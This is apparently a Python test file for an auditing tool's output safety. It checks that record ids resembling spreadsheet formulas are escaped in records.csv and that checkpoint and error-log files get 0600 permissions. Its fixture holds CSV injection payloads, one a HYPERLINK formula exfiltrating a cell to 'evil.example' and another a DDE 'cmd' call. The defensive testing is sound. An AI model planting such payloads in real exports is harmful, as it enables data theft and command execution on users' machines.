"""records.csv and the private files (issue 19, defects 7 and 8): ids a spreadsheet would
evaluate are written as text, results.json keeps them exact; the checkpoint (with its
-wal and -shm) and the error log are 0600 whatever the umask."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import audit_core.run.runner as runner
from audit_core.results.outputs import records_csv, spreadsheet_text
from tests.core import output_cases
from tests.core.output_cases import SECRET, Setup, run_cli, sha256s

two_results = output_cases.two_results


# --- 7. Ids a spreadsheet would evaluate -------------------------------------------------

FORMULAS = {1: '=HYPERLINK("http://evil.example/?"&A1,"open")', 2: "+cmd|' /C calc'!A0",
            3: "@SUM(1+1)", 4: "-2+3", 5: "\t=1+1", 6: "\r=2+2", 7: "P-plain-id"}


def test_formula_ids_are_written_as_text_in_records_csv(tmp_path, capsys):
    from audit_core.data.cohort import Role
    from audit_core.data.loading import load_cohort
    from audit_core.plan.parsing import load_plan

    setup = Setup(tmp_path, ids=FORMULAS)
    plan = setup.plan()
    before = sha256s(setup.members, setup.non_members, plan)
    out = tmp_path / "out"
    code, _, err = run_cli(capsys, plan, out)
    assert code == 0, err
    loaded = load_plan(plan)
    ids = list(load_cohort(loaded.data.members, Role.MEMBERS, loaded.data.columns).ids)
    with open(out / "records.csv", newline="", encoding="utf-8") as handle:
        written = [row["id"] for row in csv.DictReader(handle) if row["role"] == "members"]
    assert sorted(written) == sorted(spreadsheet_text(i) for i in ids)
    assert not [cell for cell in written if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'@SUM(1+1)" in written and "'-2+3" in written and "P-plain-id" in written
    assert sha256s(setup.members, setup.non_members, plan) == before


def test_the_quote_keeps_the_id_itself_and_a_leading_tab():
    for value in FORMULAS.values():
        cell = spreadsheet_text(value)
        assert cell == value or cell == "'" + value
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert spreadsheet_text("\t=1+1") == "'\t=1+1"  # the tab stays: the id is not changed
    row = next(csv.reader(io.StringIO(_csv_line(spreadsheet_text("\t=1+1")))))
    assert row == ["'\t=1+1"]


def _csv_line(cell: str) -> str:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([cell])
    return buffer.getvalue()


def test_results_json_keeps_the_exact_id(two_results):
    """records_csv quotes; the result (and so results.json's extracted ids) is untouched."""
    _, result = two_results
    ids = list(result.records.ids)
    text = records_csv(result)
    assert list(result.records.ids) == ids
    assert text.count("\n") == len(ids) + 1


# --- 8. The checkpoint and the error log are private (0600) ------------------------------

def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_checkpoint_and_its_wal_and_shm_are_0600(tmp_path):
    from audit_core.run.fingerprint import Fingerprint
    from audit_core.work.checkpoints import CheckpointRequest

    previous = os.umask(0)  # the most permissive umask: the modes may not rely on it
    try:
        saved = CheckpointRequest(tmp_path / "out").open(Fingerprint({"plan": "x"}))
        saved.save("unit", b"per-record scores")
        names = ("checkpoint.sqlite", "checkpoint.sqlite-wal", "checkpoint.sqlite-shm")
        assert {name: _mode(tmp_path / "out" / name) for name in names} == dict.fromkeys(names, 0o600)
        saved.close()
    finally:
        os.umask(previous)


def test_an_older_0644_checkpoint_is_narrowed_when_resumed(tmp_path):
    from audit_core.run.fingerprint import Fingerprint
    from audit_core.work.checkpoints import CheckpointRequest

    fingerprint = Fingerprint({"plan": "x"})
    saved = CheckpointRequest(tmp_path).open(fingerprint)
    saved.save("unit", b"scores")
    saved.close()
    os.chmod(tmp_path / "checkpoint.sqlite", 0o644)
    CheckpointRequest(tmp_path, resume=True).open(fingerprint).close()
    assert _mode(tmp_path / "checkpoint.sqlite") == 0o600


def test_the_error_log_is_0600_and_the_message_one_line(tmp_path, capsys, monkeypatch):
    setup = Setup(tmp_path)
    plan = setup.plan()

    def bug(*args, **kwargs):
        raise RuntimeError(f"a bug that quotes a record: {SECRET}")

    monkeypatch.setattr(runner, "run_audit", bug)
    previous = os.umask(0)
    try:
        code, _, err = run_cli(capsys, plan, tmp_path / "out")
    finally:
        os.umask(previous)
    log = tmp_path / "out" / "mnemoscope-error.log"
    assert code == 3 and len(err.strip().splitlines()) == 1 and "Traceback" not in err, err
    assert str(log) in err
    assert _mode(log) == 0o600 and SECRET in log.read_text()  # the details, for the owner only
